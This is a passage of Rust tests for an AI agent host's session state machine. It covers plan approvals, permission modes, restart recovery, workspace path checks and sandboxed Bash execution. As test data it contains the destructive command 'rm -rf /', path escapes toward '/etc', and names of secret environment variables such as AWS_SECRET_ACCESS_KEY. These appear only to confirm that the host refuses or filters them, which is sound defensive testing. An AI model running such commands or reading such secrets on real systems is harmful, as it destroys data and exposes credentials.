    let transition = handle(&state, &context(T0 + 2_000), Event::CancelTurn);
    accepted(&transition);
    let [Effect::UpdateApproval { approval, .. }] = transition.effects.as_slice() else {
        panic!("unexpected effects {:?}", transition.effects);
    };
    assert_eq!(approval.execution_state, Some(ExecutionState::Interrupted));
    assert_eq!(approval.error_code, Some(ErrorCode::ExecutionCancelled));
    assert_eq!(approval.status, ApprovalStatus::Approved);
    assert!(transition.state.is_idle());
    assert_eq!(transition.state.session.mode, Mode::Agent);
}

// Section 5: turn and configuration boundaries.

#[test]
fn second_prompt_during_an_active_turn_is_busy() {
    let state = plan_turn();
    let transition = handle(
        &state,
        &context(T0),
        Event::StartTurn {
            turn_id: "t2".into(),
            origin: Origin::Interactive,
            mode: None,
        },
    );
    assert_refused_unchanged(&state, transition, ErrorCode::SessionBusy);
}

#[test]
fn configuration_is_accepted_only_while_idle() {
    let idle = plan_session();
    let change = ConfigChange {
        mode: Some(Mode::Agent),
        permission_mode: Some(PermissionMode::Auto),
        provider: Some(Some("p".to_owned())),
        model: Some(Some("m".to_owned())),
        shell: Some(Some("bash".to_owned())),
    };
    let transition = handle(&idle, &context(T0), configure_event(change.clone()));
    assert_eq!(transition.reply, Ok(Reply::SessionUpdated));
    let session = &transition.state.session;
    assert_eq!(
        (session.mode, session.permission_mode, session.shell.as_deref()),
        (Mode::Agent, PermissionMode::Auto, Some("bash"))
    );
    assert_eq!(transition.effects, [Effect::SaveSession(session.clone())]);
    let busy = started(&idle);
    let transition = handle(&busy, &context(T0), configure_event(change));
    assert_refused_unchanged(&busy, transition, ErrorCode::SessionBusy);
}

#[test]
fn completing_a_prompt_turn_makes_the_session_idle() {
    let state = plan_turn();
    let wrong = handle(
        &state,
        &context(T0),
        Event::CompleteTurn {
            turn_id: "t-other".into(),
        },
    );
    assert_refused_unchanged(&state, wrong, ErrorCode::TurnNotActive);
    let done = step(&state, T0, Event::CompleteTurn { turn_id: "t1".into() });
    assert!(done.is_idle());
}

// Section 6: scheduled Plan policy.

#[test]
fn scheduled_plan_run_is_refused_before_anything_else() {
    // A background run (print or JSON mode) is as unattended as a scheduled one.
    for origin in [Origin::Scheduled, Origin::Background] {
        let idle = plan_session();
        let transition = handle(
            &idle,
            &context(T0),
            Event::StartTurn {
                turn_id: "t1".into(),
                origin,
                mode: None,
            },
        );
        assert_refused_unchanged(&idle, transition, ErrorCode::PlanRequiresInteractiveSession);
        // Even a busy Plan session answers the unattended run with the policy code.
        let (pending, _) = pending_state();
        let transition = handle(
            &pending,
            &context(T0 + 1),
            Event::StartTurn {
                turn_id: "t2".into(),
                origin,
                mode: None,
            },
        );
        assert_refused_unchanged(&pending, transition, ErrorCode::PlanRequiresInteractiveSession);
    }
}

#[test]
fn scheduled_agent_run_is_allowed_after_an_explicit_change_to_agent() {
    let idle = plan_session();
    let agent = step(
        &idle,
        T0,
        configure_event(ConfigChange {
            mode: Some(Mode::Agent),
            ..ConfigChange::default()
        }),
    );
    let started = step(
        &agent,
        T0,
        Event::StartTurn {
            turn_id: "t1".into(),
            origin: Origin::Scheduled,
            mode: None,
        },
    );
    assert_eq!(started.active_turn.unwrap().origin, Origin::Scheduled);
}

// Section 4: process-epoch fence and recovery.

#[test]
fn startup_fence_interrupts_pending_and_live_work_and_replays_nothing() {
    let (pending, _) = pending_state();
    let pending_row = pending_row(&pending);
    let queued = approved_state(PermissionMode::Auto).live_execution.unwrap();
    let mut running = queued.clone();
    running.id = "a-running".into();
    running.execution_state = Some(ExecutionState::Running);
    let mut completed = queued.clone();
    completed.id = "a-done".into();
    completed.execution_state = Some(ExecutionState::Completed);
    let mut rejected = pending_row.clone();
    rejected.id = "a-rejected".into();
    rejected.status = ApprovalStatus::Rejected;
    let rows = [
        pending_row.clone(),
        queued.clone(),
        running.clone(),
        completed,
        rejected,
    ];
    let later = T0 + 10 * TTL;
    let effects = startup_fence(&rows, later);
    assert_eq!(
        effects.len(),
        3,
        "only the pending, queued and running rows change"
    );
    for effect in &effects {
        let Effect::UpdateApproval { approval, expected } = effect else {
            panic!("the fence only updates rows");
        };
        assert_eq!(approval.error_code, Some(ErrorCode::HostRestarted));
        assert!(!approval.has_live_execution());
        assert_ne!(approval.status, ApprovalStatus::Pending);
        assert!(expected.status == ApprovalStatus::Pending || expected.execution_state.is_some());
    }
    let fenced_pending = fence_row(&pending_row, later).unwrap();
    assert_eq!(fenced_pending.status, ApprovalStatus::Interrupted);
    assert_eq!(fenced_pending.decided_at, Some(later));
    assert_eq!(fenced_pending.expires_at, pending_row.expires_at);
    assert_eq!(
        fenced_pending.permission_mode, None,
        "an interrupted approval grants nothing"
    );
    let fenced_queued = fence_row(&queued, later).unwrap();
    assert_eq!(fenced_queued.status, ApprovalStatus::Approved);
    assert_eq!(fenced_queued.execution_state, Some(ExecutionState::Interrupted));
    assert_eq!(
        fenced_queued.decided_at, queued.decided_at,
        "the approval time stays"
    );
    assert_eq!(fence_row(&fenced_queued, later), None, "the fence is idempotent");
}

#[test]
fn after_a_restart_sessions_keep_their_modes_and_start_idle() {
    // A pending approval's session stays in Plan; an approved one stays in Agent.
    let (pending, _) = pending_state();
    let approved = approved_state(PermissionMode::Auto);
    assert_eq!(pending.session.mode, Mode::Plan);
    assert_eq!(approved.session.mode, Mode::Agent);
    // The new process rebuilds state from persisted rows after the fence:
    // no active turn, nothing pending, nothing live, and no Plan re-entry.
    let restarted = SessionState::idle(approved.session.clone());
    let turn = step(
        &restarted,
        T0 + 5_000,
        Event::StartTurn {
            turn_id: "t-new".into(),
            origin: Origin::Interactive,
            mode: None,
        },
    );
    assert_eq!(turn.active_turn.unwrap().mode, Mode::Agent);
}

#[test]
fn error_codes_round_trip_through_their_wire_strings() {
    for code in ErrorCode::ALL {
        assert_eq!(ErrorCode::parse(code.as_str()), Some(code));
        assert!(code.as_str().chars().all(|c| c.is_ascii_uppercase() || c == '_'));
    }
    assert_eq!(ErrorCode::parse("plan_approval_timeout"), None);
}

#[test]
fn error_code_messages() {
    let table: Vec<String> = ErrorCode::ALL
        .iter()
        .map(|code| format!("{}: {}", code.as_str(), code.message()))
        .collect();
    insta::assert_snapshot!(table.join("\n"));
}

// Section 8: rules every frontend shares (session creation, shells,
// deadlines across sessions, verification scopes).

#[test]
fn workspace_roots_are_stored_normalized() {
    for root in ["/w", "/w/", "/w//", "/w/.", "/x/../w", "//w/./"] {
        assert_eq!(
            plan_core::normalize_workspace_root(root).as_deref(),
            Ok("/w"),
            "{root}"
        );
    }
    assert_eq!(plan_core::normalize_workspace_root("/").as_deref(), Ok("/"));
    assert_eq!(
        plan_core::normalize_workspace_root("/a/b/../c/").as_deref(),
        Ok("/a/c")
    );
    let session = plan_core::new_session("s".to_owned(), Some("/w/./"), None, None).unwrap();
    assert_eq!(session.workspace_root.as_deref(), Some("/w"));
    assert_eq!(
        (session.mode, session.permission_mode),
        (Mode::Agent, PermissionMode::Ask)
    );
}

#[test]
fn bad_workspace_roots_and_empty_session_ids_are_refused_at_creation() {
    use plan_core::SessionRefusal;
    let refused = |id: &str, root: Option<&str>| {
        plan_core::new_session(id.to_owned(), root, Some(Mode::Plan), None).unwrap_err()
    };
    assert_eq!(refused("", Some("/w")), SessionRefusal::EmptySessionId);
    assert_eq!(refused("", None), SessionRefusal::EmptySessionId);
    assert_eq!(
        refused("s", Some("w")),
        SessionRefusal::RootNotAbsolute("w".to_owned())
    );
    assert_eq!(
        refused("s", Some("")),
        SessionRefusal::RootNotAbsolute(String::new())
    );
    assert_eq!(
        refused("s", Some("/w\0x")),
        SessionRefusal::RootContainsNul("/w\0x".to_owned())
    );
    for climbing in ["/..", "/../w", "/w/../../x"] {
        assert_eq!(
            refused("s", Some(climbing)),
            SessionRefusal::RootClimbsAboveTop(climbing.to_owned())
        );
    }
    for refusal in [
        refused("", None),
        refused("s", Some("w")),
        refused("s", Some("/\0")),
        refused("s", Some("/..")),
    ] {
        assert_eq!(refusal.code(), ErrorCode::InvalidParams, "{refusal}");
    }
    // A session without a workspace is fine.
    assert!(plan_core::new_session("s".to_owned(), None, None, None).is_ok());
}

#[test]
fn submission_from_a_legacy_unnormalized_root_writes_under_the_normalized_root() {
    let mut state = plan_session();
    state.session.workspace_root = Some("/home/dev/space/./".to_owned());
    let state = started(&state);
    let (results, transition) = tool_results(&state, vec![submit_call(plan_input())]);
    assert_eq!(results[0].decision, ToolDecision::WriteArtifact);
    let [Effect::WriteArtifact(request)] = transition.effects.as_slice() else {
        panic!("unexpected effects {:?}", transition.effects);
    };
    assert_eq!(request.workspace_root, "/home/dev/space");

    let mut escaping = plan_session();
    escaping.session.workspace_root = Some("/../etc".to_owned());
    let escaping = started(&escaping);
    let (results, transition) = tool_results(&escaping, vec![submit_call(plan_input())]);
    assert_eq!(
        results[0].decision,
        ToolDecision::Deny(ErrorCode::ArtifactPathEscape)
    );
    assert!(transition.effects.is_empty());
}

#[test]
fn a_shell_outside_the_catalog_is_unknown_even_when_busy_and_clearing_is_always_fine() {
    assert_eq!(plan_core::check_shell(SHELLS, "zsh"), Ok(()));
    assert_eq!(
        plan_core::check_shell(SHELLS, "Zsh"),
        Err(ErrorCode::ShellUnknown)
    );
    assert_eq!(plan_core::check_shell([], "bash"), Err(ErrorCode::ShellUnknown));
    let idle = plan_session();
    let unknown = ConfigChange {
        shell: Some(Some("tcsh".to_owned())),
        ..ConfigChange::default()
    };
    let transition = handle(&idle, &context(T0), configure_event(unknown.clone()));
    assert_refused_unchanged(&idle, transition, ErrorCode::ShellUnknown);
    let busy = started(&idle);
    let transition = handle(&busy, &context(T0), configure_event(unknown));
    assert_refused_unchanged(&busy, transition, ErrorCode::ShellUnknown);
    let back_to_default = ConfigChange {
        shell: Some(None),
        ..ConfigChange::default()
    };
    let transition = handle(&idle, &context(T0), configure_event(back_to_default));
    assert_eq!(transition.reply, Ok(Reply::SessionUpdated));
}

#[test]
fn the_default_shell_is_the_persisted_one_while_offered_else_the_first_installed() {
    use plan_core::{CommandShell, ShellInfo, default_shell};
    let shell =
        |id: &str, available: bool| ShellInfo::new(CommandShell::new(id, format!("/bin/{id}")), available);
    let catalog = [shell("bash", false), shell("zsh", true), shell("sh", true)];
    assert_eq!(default_shell(&catalog, Some("sh")), Some("sh"));
    // A persisted default the catalog no longer offers falls back.
    assert_eq!(default_shell(&catalog, Some("fish")), Some("zsh"));
    assert_eq!(default_shell(&catalog, None), Some("zsh"));
    let none_installed = [shell("bash", false), shell("zsh", false)];
    assert_eq!(default_shell(&none_installed, None), Some("bash"));
    assert_eq!(default_shell(&[], Some("bash")), None);
}

#[test]
fn due_approvals_and_the_next_deadline_across_sessions() {
    let (pending, _) = pending_state();
    let first = pending_row(&pending);
    let mut second = first.clone();
    second.id = "a-2".into();
    second.session_id = "s-2".into();
    second.expires_at = first.expires_at + 500;
    let mut decided = first.clone();
    decided.id = "a-3".into();
    decided.status = ApprovalStatus::Approved;
    decided.expires_at = first.expires_at - 1_000;
    let rows = vec![decided, second.clone(), first.clone()];

    let unmeasured = |_: &PlanApproval| None;
    assert_eq!(
        plan_core::next_deadline(&rows, T0, unmeasured),
        Some(first.expires_at)
    );
    assert_eq!(plan_core::next_deadline(&[], T0, unmeasured), None);
    let due = |now: i64| -> Vec<ApprovalId> {
        plan_core::due_approvals(&rows, now, unmeasured)
            .into_iter()
            .map(|row| row.id.clone())
            .collect()
    };
    assert!(due(first.expires_at - 1).is_empty());
    assert_eq!(due(first.expires_at), std::slice::from_ref(&first.id));
    assert_eq!(due(second.expires_at), [second.id.clone(), first.id.clone()]);
    // The machine expires at exactly the instant the cross-session rule calls due.
    let expired = handle(&pending, &context(first.expires_at), Event::Tick);
    assert!(expired.state.pending_approval.is_none());
    let kept = handle(&pending, &context(first.expires_at - 1), Event::Tick);
    assert!(kept.state.pending_approval.is_some());
}

#[test]
fn a_verification_names_at_most_one_scope_and_only_wide_scopes_look_for_orphans() {
    use plan_core::VerifyScope;
    assert_eq!(
        VerifyScope::select(Some("a".into()), Some("s".into())),
        Err(ErrorCode::InvalidParams)
    );
    let one = VerifyScope::select(Some("a".into()), None).unwrap();
    let session = VerifyScope::select(None, Some("s".into())).unwrap();
    let everything = VerifyScope::select(None, None).unwrap();
    assert_eq!(one, VerifyScope::Approval("a".into()));
    assert!(!one.looks_for_orphans());
    assert!(session.looks_for_orphans());
    assert!(everything.looks_for_orphans());
}

#[test]
fn a_verification_is_ok_unless_an_artifact_is_bad_or_an_orphan_is_found() {
    use plan_core::{ArtifactCheck, ArtifactVerification, OrphanArtifact, SkippedWorkspace, VerifyReport};
    let check = |result: ArtifactCheck| ArtifactVerification {
        approval_id: "a".into(),
        result,
        error_code: None,
        detail: None,
    };
    let mut report = VerifyReport {
        artifacts: vec![check(ArtifactCheck::Ok), check(ArtifactCheck::Legacy)],
        orphans: Vec::new(),
        skipped_workspaces: vec![SkippedWorkspace {
            workspace_root: "/gone".to_owned(),
            detail: "missing".to_owned(),
        }],
    };
    assert!(report.ok());
    for bad in [
        ArtifactCheck::Missing,
        ArtifactCheck::Mismatch,
        ArtifactCheck::Unreadable,
    ] {
        let mut broken = report.clone();
        broken.artifacts.push(check(bad));
        assert!(!broken.ok(), "{}", bad.as_str());
    }
    report.orphans.push(OrphanArtifact {
        workspace_root: "/w".to_owned(),
        path: ".pi/plan/x.md".to_owned(),
    });
    assert!(!report.ok());
}

#[test]
fn limits_can_only_be_built_in_range() {
    for ttl in [-5, 0, Limits::MAX_APPROVAL_TTL_MS + 1, i64::MAX, i64::MIN] {
        let error = Limits::new(ttl, Limits::DEFAULT_MARKDOWN_LIMIT_BYTES).unwrap_err();
        assert_eq!(error.code(), ErrorCode::InvalidParams, "{ttl}");
        assert!(error.to_string().contains(&format!("{ttl} ms")), "{error}");
        assert!(error.to_string().contains("from 1 ms to 604800000 ms"), "{error}");
    }
    for bytes in [0, Limits::MAX_MARKDOWN_LIMIT_BYTES + 1, usize::MAX] {
        let error = Limits::new(TTL, bytes).unwrap_err();
        assert_eq!(error.code(), ErrorCode::InvalidParams, "{bytes}");
    }
    let widest = Limits::new(Limits::MAX_APPROVAL_TTL_MS, Limits::MAX_MARKDOWN_LIMIT_BYTES).unwrap();
    assert_eq!(widest.approval_ttl_ms(), Limits::MAX_APPROVAL_TTL_MS);
    let narrowest = Limits::new(1, 1).unwrap();
    assert_eq!(
        (narrowest.approval_ttl_ms(), narrowest.markdown_limit_bytes()),
        (1, 1)
    );
    assert_eq!(Limits::default(), Limits::new(TTL, 8 * 1024 * 1024).unwrap());
}

// Host-run commands (commands.md).

mod commands {
    use super::*;
    use plan_core::{
        BashInput, CommandLimits, CommandOptions, CommandRequest, CommandRun, CommandState,
        DEFAULT_SECRET_ENV_MARKERS, MAX_COMMAND_BYTES, Sandbox, SandboxGrant, check_resolved_cwd,
        command_inherits_env, fence_commands, parse_bash_input, sandbox_for,
    };

    const ROOT: &str = "/home/dev/project";

    fn sandboxed() -> Context {
        let mut context = context(T0);
        context.limits.commands.sandbox_available = true;
        context.limits.commands.namespaces_available = true;
        context
    }

    /// Landlock and seccomp, but no namespaces (a kernel without them, or a
    /// host that skips them).
    fn without_namespaces() -> Context {
        let mut context = context(T0);
        context.limits.commands.sandbox_available = true;
        context
    }

    fn bash(call_id: &str, command: &str) -> ToolCall {
        ToolCall {
            call_id: call_id.into(),
            name: "Bash".to_owned(),
            input: json!({"command": command, "description": "agents send extras"}),
        }
    }

    fn bash_in(call_id: &str, command: &str, cwd: &str) -> ToolCall {
        ToolCall {
            call_id: call_id.into(),
            name: "Bash".to_owned(),
            input: json!({"command": command, "cwd": cwd}),
        }
    }

    fn run_batch(
        state: &SessionState,
        context: &Context,
        calls: Vec<ToolCall>,
    ) -> (Vec<ToolDecision>, SessionState) {
        let transition = handle(state, context, support::tool_calls("t1".into(), calls));
        match accepted(&transition) {
            Reply::ToolResults(results) => (
                results.into_iter().map(|result| result.decision).collect(),
                transition.state,
            ),
            other => panic!("expected tool results, got {other:?}"),
        }
    }

    /// One Plan-turn Bash call `c1` decided under `facts`: its decision and
    /// the transition.
    fn plan_bash_under(facts: plan_core::CommandFacts) -> (ToolDecision, Transition) {
        let transition = handle(
            &plan_turn(),
            &sandboxed(),
            Event::ToolCalls {
                turn_id: "t1".into(),
                calls: vec![bash("c1", "git status")],
                commands: facts,
            },
        );
        let Reply::ToolResults(mut results) = accepted(&transition) else {
            panic!("expected tool results");
        };
        (results.remove(0).decision, transition)
    }

    fn records(
        transition: &Transition,
    ) -> Vec<(plan_core::CommandEntryKind, CommandState, Option<ErrorCode>)> {
        transition
            .effects
            .iter()
            .filter_map(|effect| match effect {
                Effect::RecordCommand { kind, run } => Some((*kind, run.state, run.error_code)),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn a_command_the_host_cannot_run_fails_to_start_in_the_decision_with_its_code() {
        use plan_core::{CommandEntryKind, CwdFact, WorkspaceFact};
        let ready = || support::ready(["c1"]);
        let unavailable = ErrorCode::PlanSandboxUnavailable;
        let cases: Vec<(&str, plan_core::CommandFacts, ErrorCode)> = vec![
            (
                "shell not installed",
                plan_core::CommandFacts {
                    shell_installed: false,
                    ..ready()
                },
                ErrorCode::ShellUnavailable,
            ),
            (
                "no helper or scratch root",
                plan_core::CommandFacts {
                    runner_ready: false,
                    ..ready()
                },
                unavailable,
            ),
            (
                "the workspace cannot be opened",
                plan_core::CommandFacts {
                    workspace: WorkspaceFact::Unavailable,
                    ..ready()
                },
                ErrorCode::InvalidCommandInput,
            ),
            (
                "the cwd does not exist",
                plan_core::CommandFacts {
                    calls: vec![plan_core::CallFacts {
                        call_id: "c1".into(),
                        cwd: CwdFact::Missing,
                        scratch_ready: true,
                    }],
                    ..ready()
                },
                ErrorCode::InvalidCommandInput,
            ),
            (
                "the scratch root is inside the workspace",
                plan_core::CommandFacts {
                    scratch_outside_workspace: false,
                    ..ready()
                },
                unavailable,
            ),
            (
                "no scratch directory",
                plan_core::CommandFacts {
                    calls: vec![plan_core::CallFacts {
                        call_id: "c1".into(),
                        cwd: CwdFact::Resolved("/real/w".to_owned()),
                        scratch_ready: false,
                    }],
                    ..ready()
                },
                ErrorCode::Internal,
            ),
            (
                "no facts for the call at all",
                plan_core::CommandFacts {
                    calls: Vec::new(),
                    ..ready()
                },
                ErrorCode::InvalidCommandInput,
            ),
        ];
        for (why, facts, code) in cases {
            let (decision, transition) = plan_bash_under(facts);
            let ToolDecision::RunCommand(launch) = decision else {
                panic!("{why}: {decision:?}");
            };
            assert!(!launch.spawns(), "{why}");
            assert_eq!(
                (launch.run.state, launch.run.error_code),
                (CommandState::FailedToStart, Some(code)),
                "{why}"
            );
            // Recorded started, then ended, in the decision's transaction;
            // the turn keeps it ended (nothing runs, a plan may follow).
            assert_eq!(
                records(&transition),
                [
                    (CommandEntryKind::Started, CommandState::Running, None),
                    (CommandEntryKind::Ended, CommandState::FailedToStart, Some(code)),
                ],
                "{why}"
            );
            let turn = transition.state.active_turn.unwrap();
            assert!(!turn.has_running_command(), "{why}");
        }
        // With every fact in place it spawns, recorded started only.
        let (decision, transition) = plan_bash_under(ready());
        let ToolDecision::RunCommand(launch) = decision else {
            panic!("{decision:?}");
        };
        assert!(launch.spawns());
        assert_eq!(launch.run.shell.path, "/bin/bash");
        assert_eq!(
            records(&transition),
            [(CommandEntryKind::Started, CommandState::Running, None)]
        );
    }

    #[test]
    fn a_workspace_that_is_not_the_one_the_session_bound_is_refused_and_an_unbound_one_is_bound() {
        use plan_core::{CommandEntryKind, WorkspaceFact, WorkspaceIdentity};
        let other = WorkspaceIdentity { device: 1, inode: 2 };
        let replaced = plan_core::CommandFacts {
            workspace: WorkspaceFact::Found {
                found: other,
                bound: Some(support::WORKSPACE),
                real_root: Some("/real/w".to_owned()),
            },
            ..support::ready(["c1"])
        };
        // Plan: denied in the answer, recorded as refused, nothing bound.
        let (decision, transition) = plan_bash_under(replaced.clone());
        assert_eq!(decision, ToolDecision::Deny(ErrorCode::CommandCwdEscape));
        assert_eq!(
            records(&transition),
            [(
                CommandEntryKind::Refused,
                CommandState::FailedToStart,
                Some(ErrorCode::CommandCwdEscape)
            )]
        );
        assert!(
            !transition
                .effects
                .iter()
                .any(|effect| matches!(effect, Effect::BindWorkspace { .. }))
        );
        // Agent `command/start`: it fails to start with the same code.
        let agent = agent_turn_with_bash(PermissionMode::Auto);
        let started = handle(
            &agent,
            &sandboxed(),
            Event::StartCommand {
                turn_id: "t1".into(),
                call_id: "c1".into(),
                input: json!({"command": "cargo test", "timeoutMs": 5_000}),
                commands: replaced,
            },
        );
        let Reply::CommandStarted(launch) = accepted(&started) else {
            panic!("expected a start");
        };
        assert_eq!(
            (launch.run.state, launch.run.error_code),
            (CommandState::FailedToStart, Some(ErrorCode::CommandCwdEscape))
        );
        // Not bound yet: the decision binds the directory it found.
        let unbound = plan_core::CommandFacts {
            workspace: WorkspaceFact::Found {
                found: other,
                bound: None,
                real_root: Some("/real/w".to_owned()),
            },
            ..support::ready(["c1"])
        };
        let (decision, transition) = plan_bash_under(unbound);
        assert!(matches!(decision, ToolDecision::RunCommand(_)));
        assert!(transition.effects.iter().any(|effect| matches!(
            effect,
            Effect::BindWorkspace { session_id, identity } if session_id.as_str() == "s1" && *identity == other
        )));
    }

    #[test]
    fn a_refused_command_start_is_recorded_with_what_was_asked() {
        let agent = agent_turn_with_bash(PermissionMode::Auto);
        let refused = handle(
            &agent,
            &sandboxed(),
            Event::StartCommand {
                turn_id: "t1".into(),
                call_id: "c1".into(),
                // Not the input that was decided.
                input: json!({"command": "rm -rf /", "cwd": "src"}),
                commands: support::ready(["c1"]),
            },
        );
        assert_eq!(refused.reply, Err(ErrorCode::CommandNotAllowed));
        assert_eq!(refused.state, agent, "a refusal changes nothing");
        let [Effect::RecordCommand { kind, run }] = refused.effects.as_slice() else {
            panic!("{:?}", refused.effects);
        };
        assert_eq!(*kind, plan_core::CommandEntryKind::Refused);
        assert_eq!(run.command, "rm -rf /");
        assert_eq!(run.cwd, "src");
        assert_eq!(run.sandbox, Sandbox::WorkspaceWrite);
        assert_eq!(run.error_code, Some(ErrorCode::CommandNotAllowed));
        assert_eq!(run.started_at, T0);
    }

    /// A Plan turn with the running command `c1`.
    fn plan_turn_running() -> SessionState {
        let (decisions, state) = run_batch(&plan_turn(), &sandboxed(), vec![bash("c1", "git status")]);
        assert!(matches!(decisions.as_slice(), [ToolDecision::RunCommand(_)]));
        state
    }

    /// An Agent session under `mode` whose turn `t1` allowed (under `ask`
    /// and `accept-edits`: a person confirmed) the Bash call `c1`, which
    /// `start` starts with its own input.
    fn agent_turn_with_bash(mode: PermissionMode) -> SessionState {
        let mut session = Session::new("s1", Some(ROOT.to_owned()));
        session.permission_mode = mode;
        let state = started(&SessionState::idle(session));
        let call = ToolCall {
            call_id: "c1".into(),
            name: "Bash".to_owned(),
            input: json!({"command": "cargo test", "timeoutMs": 5_000, "description": "agents send extras"}),
        };
        let (decisions, state) = run_batch(&state, &sandboxed(), vec![call]);
        if mode == PermissionMode::Auto {
            assert_eq!(decisions, [ToolDecision::HostRun]);
            return state;
        }
        assert_eq!(decisions, [ToolDecision::Confirm { host_run: true }]);
        let confirmed = handle(
            &state,
            &sandboxed(),
            Event::ConfirmTool {
                turn_id: "t1".into(),
                call_id: "c1".into(),
                allow: true,
            },
        );
        assert_eq!(
            accepted(&confirmed),
            Reply::ToolConfirmed(plan_core::ToolResult {
                call_id: "c1".into(),
                decision: ToolDecision::HostRun,
                message: None
            })
        );
        confirmed.state
    }

    #[test]
    fn a_call_awaiting_a_person_is_listed_with_its_input_until_it_is_answered() {
        let mut session = Session::new("s1", Some(ROOT.to_owned()));
        session.permission_mode = PermissionMode::Ask;
        let state = started(&SessionState::idle(session));
        let input = json!({"command": "cargo test", "cwd": "src"});
        let call = ToolCall {
            call_id: "c1".into(),
            name: "Bash".to_owned(),
            input: input.clone(),
        };
        let (decisions, state) = run_batch(&state, &sandboxed(), vec![call]);
        assert_eq!(decisions, [ToolDecision::Confirm { host_run: true }]);
        let listed = plan_core::awaiting_calls(&state);
        assert_eq!(listed.len(), 1, "{listed:?}");
        assert_eq!(listed[0].call_id.as_str(), "c1");
        assert_eq!(listed[0].turn_id.as_str(), "t1");
        assert_eq!(listed[0].tool, "Bash");
        assert_eq!(listed[0].input, input);
        assert_eq!(listed[0].permission_mode, PermissionMode::Ask);
        assert_eq!(listed[0].execution_id, None);
        let declined = handle(
            &state,
            &sandboxed(),
            Event::ConfirmTool {
                turn_id: "t1".into(),
                call_id: "c1".into(),
                allow: false,
            },
        );
        assert!(plan_core::awaiting_calls(&declined.state).is_empty());
        assert!(plan_core::awaiting_calls(&SessionState::idle(Session::new("s2", None))).is_empty());
    }

    fn start(state: &SessionState, context: &Context, call_id: &str) -> Transition {
        handle(
            state,
            context,
            Event::StartCommand {
                turn_id: "t1".into(),
                call_id: call_id.into(),
                input: json!({"command": "cargo test", "timeoutMs": 5_000}),
                commands: support::ready([call_id]),
            },
        )
    }

    #[test]
    fn bash_input_is_validated_with_the_documented_codes() {
        let options = CommandOptions::default();
        let parse = |input: serde_json::Value| parse_bash_input(&input, Some(ROOT), &options);
        assert_eq!(
            parse(json!({"command": "ls", "extra": 1})),
            Ok(BashInput {
                command: "ls".to_owned(),
                timeout_ms: CommandLimits::DEFAULT_TIMEOUT_MS,
                cwd: ".".to_owned(),
            })
        );
        assert_eq!(
            parse(json!({"command": "ls", "timeoutMs": 600_000})).map(|input| input.timeout_ms),
            Ok(600_000)
        );
        assert_eq!(
            parse(json!({"command": "ls", "cwd": "src/../docs/"})).map(|input| input.cwd),
            Ok("docs".to_owned())
        );
        assert_eq!(
            parse(json!({"command": "ls", "cwd": "/home/dev/project/src"})).map(|input| input.cwd),
            Ok("src".to_owned())
        );
        assert_eq!(
            parse(json!({"command": "ls", "cwd": ROOT})).map(|input| input.cwd),
            Ok(".".to_owned())
        );
        for invalid in [
            json!("ls"),
            json!({}),
            json!({"command": ""}),
            json!({"command": "   "}),
            json!({"command": 3}),
            json!({"command": "ls\u{0}x"}),
            json!({"command": "ls", "timeoutMs": 0}),
            json!({"command": "ls", "timeoutMs": 600_001}),
            json!({"command": "ls", "timeoutMs": -5}),
            json!({"command": "ls", "timeoutMs": 1.5}),
            json!({"command": "ls", "timeoutMs": "100"}),
            json!({"command": "ls", "cwd": ""}),
            json!({"command": "ls", "cwd": 7}),
        ] {
            assert_eq!(
                parse(invalid.clone()),
                Err(ErrorCode::InvalidCommandInput),
                "{invalid}"
            );
        }
        for escape in [
            "..",
            "../other",
            "src/../../x",
            "/home/dev",
            "/home/dev/project-other",
            "/etc",
        ] {
            assert_eq!(
                parse(json!({"command": "ls", "cwd": escape})),
                Err(ErrorCode::CommandCwdEscape),
                "{escape}"
            );
        }
        assert_eq!(
            parse_bash_input(&json!({"command": "ls"}), None, &options),
            Err(ErrorCode::SessionNotProjectBound)
        );
        let strict = CommandOptions {
            limits: CommandLimits::new(None, 10, 1).unwrap(),
            ..CommandOptions::default()
        };
        assert_eq!(
            parse_bash_input(&json!({"command": "ls", "timeoutMs": 11}), Some(ROOT), &strict),
            Err(ErrorCode::InvalidCommandInput)
        );
    }

    #[test]
    fn a_command_longer_than_the_kernel_accepts_is_invalid_input() {
        let options = CommandOptions::default();
        let longest = "x".repeat(MAX_COMMAND_BYTES);
        assert!(parse_bash_input(&json!({"command": longest}), Some(ROOT), &options).is_ok());
        let too_long = "x".repeat(MAX_COMMAND_BYTES + 1);
        assert_eq!(
            parse_bash_input(&json!({"command": too_long}), Some(ROOT), &options),
            Err(ErrorCode::InvalidCommandInput)
        );
        assert!(ErrorCode::InvalidCommandInput.message().contains("131071 bytes"));
    }

    #[test]
    fn secrets_are_not_inherited_and_the_rule_is_the_hosts_option() {
        let markers: Vec<String> = DEFAULT_SECRET_ENV_MARKERS
            .iter()
            .map(|m| (*m).to_owned())
            .collect();
        for kept in ["PATH", "HOME", "LANG", "CARGO_HOME", "USER"] {
            assert!(command_inherits_env(kept, &markers), "{kept}");
        }
        for secret in [
            "AWS_SECRET_ACCESS_KEY",
            "github_token",
            "Api_Key",
            "DB_PASSWORD",
            "MONKEY",
            "TMPDIR",
        ] {
            assert!(!command_inherits_env(secret, &markers), "{secret}");
        }
        let custom = vec!["CORP".to_owned()];
        assert!(command_inherits_env("GITHUB_TOKEN", &custom));
        assert!(!command_inherits_env("corp_login", &custom));
        assert!(command_inherits_env("ANYTHING", &[]));
    }

    #[test]
    fn a_cwd_the_host_resolved_outside_the_workspace_is_denied_before_anything_runs() {
        let state = plan_turn();
        let transition = handle(
            &state,
            &sandboxed(),
            Event::ToolCalls {
                turn_id: "t1".into(),
                calls: vec![bash_in("c1", "ls", "link-out"), bash_in("c2", "ls", "src")],
                // The host followed `link-out` to a directory outside.
                commands: plan_core::CommandFacts {
                    calls: vec![
                        plan_core::CallFacts {
                            call_id: "c1".into(),
                            cwd: plan_core::CwdFact::Resolved("/elsewhere".to_owned()),
                            scratch_ready: true,
                        },
                        plan_core::CallFacts {
                            call_id: "c2".into(),
                            cwd: plan_core::CwdFact::Resolved("/real/w/src".to_owned()),
                            scratch_ready: true,
                        },
                    ],
                    ..support::ready([])
                },
            },
        );
        let Reply::ToolResults(results) = accepted(&transition) else {
            panic!("expected tool results");
        };
        assert_eq!(
            results[0].decision,
            ToolDecision::Deny(ErrorCode::CommandCwdEscape)
        );
        assert!(matches!(results[1].decision, ToolDecision::RunCommand(_)));
        let turn = transition.state.active_turn.unwrap();
        assert!(turn.commands.iter().all(|command| command.call_id != "c1"));
    }

    #[test]
    fn a_workspace_is_the_directory_the_session_bound() {
        use plan_core::{WorkspaceIdentity, check_workspace_identity};
        let bound = WorkspaceIdentity {
            device: 2049,
            inode: 77,
        };
